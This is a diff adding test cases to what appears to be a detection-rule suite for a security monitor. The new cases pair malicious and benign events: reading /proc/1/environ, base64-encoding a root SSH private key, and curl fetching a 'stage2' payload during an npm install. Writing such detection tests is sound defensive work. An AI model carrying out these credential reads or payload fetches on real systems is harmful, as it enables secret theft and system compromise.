@@ -644,6 +644,19 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         run("wget --post-data=msg=hello --timeout=5 https://10.0.0.1/"),
         run("wget -q -O- http://127.0.0.1:8080/health"),
     ),
+    "privilege_escalation.process-environment-read": (
+        file_access("/proc/1/environ", ("read",), exe="/usr/bin/cat"),
+        file_access("/proc/1/environ", ("read",), exe="/usr/bin/ps"),
+    ),
+    "privilege_escalation.ssh-private-key-read": (
+        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/base64"),
+        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/ssh"),
+    ),
+    "foothold.network-tool-in-package-install": (
+        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh",
+            ancestors=("/usr/bin/node", "/usr/bin/npm")),
+        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh"),
+    ),
 }
 
 
